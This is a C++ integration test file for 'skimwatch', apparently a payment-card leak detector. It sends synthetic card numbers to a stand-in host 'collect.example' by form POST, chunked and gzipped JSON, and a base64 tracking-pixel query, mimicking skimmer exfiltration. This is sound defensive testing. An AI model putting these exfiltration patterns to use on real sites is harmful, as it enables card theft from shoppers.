#include <unistd.h>

#include <cmath>
#include <cstddef>
#include <cstdint>
#include <fstream>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "absl/strings/escaping.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/integration/support/cards.h"
#include "tests/integration/support/deployment.h"
#include "tests/integration/support/web_server.h"

namespace skimwatch::integration {
namespace {

using ::testing::AllOf;
using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Key;
using ::testing::Not;

class EndToEnd : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!MayCapture()) GTEST_SKIP() << "needs the right to capture packets (CAP_NET_RAW)";
    ASSERT_NO_FATAL_FAILURE(web_.Start());
    deployment_.service_ports = {web_.shop_port()};
    v1::ExpectedFlow& flow = *deployment_.collector_config.add_expected_flows();
    flow.set_name("payment processor");
    flow.set_host("api.processor.example");
    flow.set_method("POST");
    flow.set_path_prefix("/v1/charges");
    ASSERT_NO_FATAL_FAILURE(deployment_.StartCollector());
  }

  std::string CaptureYaml() const {
    return absl::StrCat("packet_captures: [{ interface: lo, filter: ", web_.Filter(), " }]");
  }

  // What is on the wire is found only by and by; an agent that ends cleanly delivers what it holds.
  void EndAgent() {
    const int status = deployment_.StopAgent(SIGTERM);
    EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << deployment_.agent().Log();
  }

  Deployment deployment_;
  WebServer web_{deployment_.site_folder()};
};

TEST(PlantedCards, AreFoundInAFilePlainAndInBase64AtAnyAlignment) {
  constexpr size_t kCards = 100;
  EXPECT_THAT(CardsIn("x" + CardNumber(7) + "1", kCards), ElementsAre(7));
  for (const std::string before : {"", "a", "ab", "abc"}) {
    for (const std::string around : {"", "q", "qq", "qqq"}) {
      const std::string text = absl::Base64Escape(before + CardNumber(42) + "&e=12");
      EXPECT_THAT(CardsIn(around + text, kCards), ElementsAre(42)) << before << " " << around;
      EXPECT_THAT(CardsIn(absl::WebSafeBase64Escape(before + CardNumber(42)), kCards),
                  ElementsAre(42));
    }
  }
  EXPECT_THAT(CardsIn(CardNumber(kCards), kCards), IsEmpty());
  Deployment deployment;
  std::ofstream(deployment.agent_folder() + "/file") << "\0\1" << CardNumber(3);
  EXPECT_THAT(LeaksBelow(deployment.root(), kCards), ElementsAre(HasSubstr("file: card 3")));
}

TEST_F(EndToEnd, EveryWayOutIsFoundAndNothingElse) {
  enum Planted : size_t {
    kForm,
    kChunked,
    kGzipped,
    kResponse,
    kLogLine,
    kQuery,
    kProcessor,
    // Those before are stored; a shopper's own submission is not even looked at.
    kInbound,
    kCount,
  };
  const std::string log = deployment_.site_folder() + "/app.log";
  std::ofstream(log) << "started\n";
  deployment_.agent_yaml = absl::StrCat("sources:\n  ", CaptureYaml(), "\n  log_files: [{ paths: [",
                                        log, "] }]\nscan: { fold_window_seconds: 1 }\n");
  std::ofstream(web_.html() + "/receipt.html")
      << "<p>card number: " << CardNumber(kResponse) << "</p>";
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());

  uint64_t wire_bytes = 0;
  const auto json = [](size_t card) {
    return absl::StrCat(R"({"cardNumber":")", CardNumber(card), R"(","expiry":"12/29"})");
  };
  const int outside = web_.outside_port();
  EXPECT_THAT(
      Exchange(outside,
               Post("collect.example", "/form", "card_number=" + CardNumber(kForm) + "&exp=12%2F29",
                    "Content-Type: application/x-www-form-urlencoded\r\n"),
               &wire_bytes),
      HasSubstr(" 204 "));
  // The number straddles two chunks.
  const std::string body = json(kChunked);
  EXPECT_THAT(Exchange(outside,
                       absl::StrCat("POST /chunked HTTP/1.1\r\nHost: collect.example\r\n"
                                    "Connection: close\r\nTransfer-Encoding: chunked\r\n"
                                    "Content-Type: application/json\r\n\r\n",
                                    "14\r\n", body.substr(0, 20), "\r\n",
                                    absl::StrFormat("%x", body.size() - 20), "\r\n",
                                    body.substr(20), "\r\n0\r\n\r\n"),
                       &wire_bytes),
              HasSubstr(" 204 "));
  EXPECT_THAT(Exchange(outside,
                       Post("collect.example", "/gzipped", Gzip(json(kGzipped)),
                            "Content-Type: application/json\r\nContent-Encoding: gzip\r\n"),
                       &wire_bytes),
              HasSubstr(" 204 "));
  EXPECT_THAT(Exchange(outside,
                       Get("collect.example", "/pixel.gif?d=" + absl::WebSafeBase64Escape(
                                                                    "card=" + CardNumber(kQuery))),
                       &wire_bytes),
              HasSubstr(" 204 "));
  EXPECT_THAT(Exchange(web_.shop_port(), Get("shop.example", "/receipt.html"), &wire_bytes),
              HasSubstr(" 200 "));
  EXPECT_THAT(Exchange(web_.processor_port(),
                       Post("api.processor.example", "/v1/charges", json(kProcessor)), &wire_bytes),
              HasSubstr("approved"));
  EXPECT_THAT(Exchange(web_.shop_port(), Post("shop.example", "/api/checkout", json(kInbound)),
                       &wire_bytes),
              HasSubstr("thank you"));
  const std::string line = "payment failed, card=" + CardNumber(kLogLine) + "\n";
  std::ofstream(log, std::ios::app) << line;

  ASSERT_TRUE(deployment_.WaitForCards(kInbound));
  // A heartbeat after the last byte tells the collector what the agent's own page tells.
  std::string page;
  EXPECT_TRUE(testing::WaitUntil([&] {
    page = deployment_.AgentGet("/metrics");
    const std::vector<v1::Agent> agents = deployment_.Agents();
    return agents.size() == 1 && static_cast<double>(agents[0].coverage().seen_bytes()) ==
                                     SumOf(page, "skimwatch_source_bytes_total");
  }));
  const v1::Coverage coverage = deployment_.Agents().at(0).coverage();
  EXPECT_EQ(coverage.seen_bytes(), coverage.scanned_bytes() + coverage.sampled_out_bytes() +
                                       coverage.truncated_bytes() + coverage.shed_bytes() +
                                       coverage.undecodable_bytes() + coverage.inbound_bytes());
  uint64_t by_reason = 0;
  for (const auto& [reason, bytes] : coverage.by_reason_bytes()) by_reason += bytes;
  EXPECT_EQ(by_reason, coverage.seen_bytes());
  // To the byte: all that went over the wire, and what the log grew by.
  EXPECT_EQ(coverage.seen_bytes(), wire_bytes + line.size());
  EXPECT_GT(coverage.scanned_bytes(), 0u);
  EXPECT_GT(coverage.inbound_bytes(), 0u);
  EXPECT_EQ(coverage.sampled_out_bytes() + coverage.shed_bytes() + coverage.truncated_bytes(), 0u);
  EXPECT_EQ(MetricOf(page, "skimwatch_capture_kernel_drops_total{interface=\"lo\"}"), 0);

  EndAgent();
  const std::map<size_t, StoredCard> cards = deployment_.Cards(kCount);
  EXPECT_THAT(cards, Not(Contains(Key(kInbound))));
  ASSERT_EQ(cards.size(), size_t{kInbound});
  std::set<uint64_t> exposures;
  for (const auto& [card, stored] : cards) {
    EXPECT_EQ(stored.occurrences, 1u) << "card " << card;
    EXPECT_EQ(stored.expected_occurrences, card == kProcessor ? 1u : 0u) << "card " << card;
    ASSERT_EQ(stored.findings.size(), 1u) << "card " << card;
    const v1::Finding& finding = stored.findings[0].finding();
    EXPECT_EQ(finding.site(), "shop");
    EXPECT_EQ(finding.sampling_probability(), 1) << "card " << card;
    EXPECT_EQ(stored.findings[0].exposure_id() == 0, card == kProcessor) << "card " << card;
    exposures.insert(stored.findings[0].exposure_id());
  }
  const auto finding = [&](size_t card) { return cards.at(card).findings[0].finding(); };
  EXPECT_EQ(finding(kForm).destination(), absl::StrCat("collect.example:", outside));
  EXPECT_EQ(finding(kForm).provenance().method(), "POST");
  EXPECT_EQ(finding(kForm).provenance().path_template(), "/form");
  EXPECT_EQ(finding(kForm).rule(), "card.outbound");
  EXPECT_EQ(finding(kResponse).rule(), "card.outbound_response");
  EXPECT_EQ(finding(kLogLine).rule(), "card.at_rest");
  EXPECT_EQ(finding(kLogLine).destination(), log);
  EXPECT_THAT(finding(kQuery).card_number().encodings(), ElementsAre("base64"));
  EXPECT_EQ(finding(kQuery).provenance().path_template(), "/pixel.gif");
  EXPECT_EQ(finding(kProcessor).severity(), v1::SEVERITY_INFO);

  // One exposure a way out, and none for what is expected.
  const std::vector<v1::Exposure> open = deployment_.Exposures();
  EXPECT_EQ(open.size(), size_t{kInbound} - 1);
  for (const v1::Exposure& exposure : open) {
    EXPECT_EQ(exposure.distinct_cards(), 1u);
    EXPECT_EQ(exposure.occurrences(), 1u);
    EXPECT_FALSE(exposure.sampled());
  }
  deployment_.ExpectNoNumberKept(kCount);
}

TEST_F(EndToEnd, RepeatsAreFoldedAndAllCounted) {
  deployment_.agent_yaml =
      absl::StrCat("sources:\n  ", CaptureYaml(), "\nscan: { fold_window_seconds: 1 }\n");
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  constexpr uint64_t kRepeats = 50;
  for (uint64_t i = 0; i < kRepeats; ++i) {
    Exchange(web_.outside_port(), Post("collect.example", "/form", "card=" + CardNumber(0)));
  }
  EndAgent();
  const std::map<size_t, StoredCard> cards = deployment_.Cards(1);
  ASSERT_EQ(cards.size(), 1u);
  EXPECT_EQ(cards.at(0).occurrences, kRepeats);
  EXPECT_LT(cards.at(0).findings.size(), kRepeats);
  const std::vector<v1::Exposure> exposures = deployment_.Exposures();
  ASSERT_EQ(exposures.size(), 1u);
  EXPECT_EQ(exposures[0].occurrences(), kRepeats);
  EXPECT_EQ(exposures[0].distinct_cards(), 1u);
  deployment_.ExpectNoNumberKept(1);
}

TEST_F(EndToEnd, SamplingKeepsWholeFlowsAndTheEstimateIsRight) {
  deployment_.agent_yaml =
      absl::StrCat("sources:\n  ", CaptureYaml(), "\nsampling: { flow_ratio: 0.5 }\n");
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  // Each flow carries two cards in two requests.
  constexpr size_t kFlows = 400;
  for (size_t flow = 0; flow < kFlows; ++flow) {
    std::string requests;
    for (const size_t card : {2 * flow, 2 * flow + 1}) {
      const std::string body = "card=" + CardNumber(card);
      absl::StrAppend(&requests, "POST /form HTTP/1.1\r\nHost: collect.example\r\n",
                      card % 2 == 1 ? "Connection: close\r\n" : "", "Content-Length: ", body.size(),
                      "\r\n\r\n", body);
    }
    Exchange(web_.outside_port(), requests);
  }
  EXPECT_TRUE(testing::WaitUntil([&] {
    return deployment_.AgentMetric("skimwatch_traffic_flows_total{interface=\"lo\"}") >= kFlows;
  }));
  const std::string page = deployment_.AgentGet("/metrics");
  EndAgent();

  const std::map<size_t, StoredCard> cards = deployment_.Cards(2 * kFlows);
  // Five standard deviations: one run in two million is beyond by chance.
  const double mean = kFlows * 0.5;
  const double deviation = std::sqrt(kFlows * 0.25);
  EXPECT_NEAR(static_cast<double>(cards.size()) / 2, mean, 5 * deviation);
  for (const auto& [card, stored] : cards) {
    EXPECT_THAT(cards, Contains(Key(card ^ 1))) << "half a flow";
    EXPECT_EQ(stored.occurrences, 1u) << "card " << card;
    for (const v1::StoredFinding& finding : stored.findings) {
      EXPECT_EQ(finding.finding().sampling_probability(), 0.5);
    }
  }
  // What is not here was left out as a whole, and counted.
  EXPECT_EQ(MetricOf(page, "skimwatch_traffic_flows_sampled_out_total{interface=\"lo\"}"),
            kFlows - cards.size() / 2);
  EXPECT_EQ(MetricOf(page, "skimwatch_sample_ratio"), 0.5);
  EXPECT_GT(MetricOf(page,
                     "skimwatch_source_bytes_total{outcome=\"sampled_out\","
                     "reason=\"sampled_out.flow_hash\"}"),
            0);
  const std::vector<v1::Exposure> exposures = deployment_.Exposures();
  ASSERT_EQ(exposures.size(), 1u);
  EXPECT_TRUE(exposures[0].sampled());
  EXPECT_EQ(exposures[0].occurrences(), cards.size());
  EXPECT_DOUBLE_EQ(exposures[0].estimated_occurrences(), 2.0 * static_cast<double>(cards.size()));
  EXPECT_NEAR(exposures[0].estimated_occurrences(), 2 * kFlows, 2 * 2 * 5 * deviation);
  deployment_.ExpectNoNumberKept(2 * kFlows);
}

}  // namespace
}  // namespace skimwatch::integration
